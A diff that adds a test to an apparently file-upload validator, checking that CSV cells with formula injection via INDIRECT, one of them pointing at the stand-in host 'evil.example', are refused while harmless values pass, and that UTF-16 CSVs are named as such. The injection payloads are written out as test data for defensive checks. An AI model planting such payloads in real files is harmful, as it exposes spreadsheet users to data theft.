@@ -1636,3 +1636,15 @@ def test_a_folder_or_a_name_with_no_extension_is_said_as_what_it_is():
     assert type_problem("files/checklist").startswith("has no extension")
     assert type_problem("files/x.exe").startswith("is a `.exe` file")
     assert type_problem("files/checklist.pdf") is None
+
+
+def test_a_csv_reaching_another_file_through_indirect_is_refused_and_utf16_is_said_as_such():
+    """Thirty-ninth round: `+INDIRECT("'https://evil.example/x.ods'#$Sheet1.A1")` passed, though the same reference
+    written directly was refused; a UTF-16 CSV was said to hold binary data, with a hint about PDFs."""
+    from resource_library.files import csv_formula_problem, text_problem
+    for cell in ('+INDIRECT("\'https://evil.example/x.ods\'#$Sheet1.A1")', '-indirect(CHAR(91)&"x.xlsx]S!A1")'):
+        assert "run as a formula" in csv_formula_problem(f'a,b\nx,"{cell.replace(chr(34), chr(34) * 2)}"\n'.encode())
+    for honest in ("+1+1", "-5", "+44 131 623 4300", "- pending | review"):
+        assert csv_formula_problem(f"a,b\nx,{honest}\n".encode()) is None, honest
+    assert "saved as UTF-16" in text_problem("a,b\nx,1\n".encode("utf-16"), "csv")
+    assert text_problem(b"a\0b", "csv") == "is not CSV: it holds binary data"
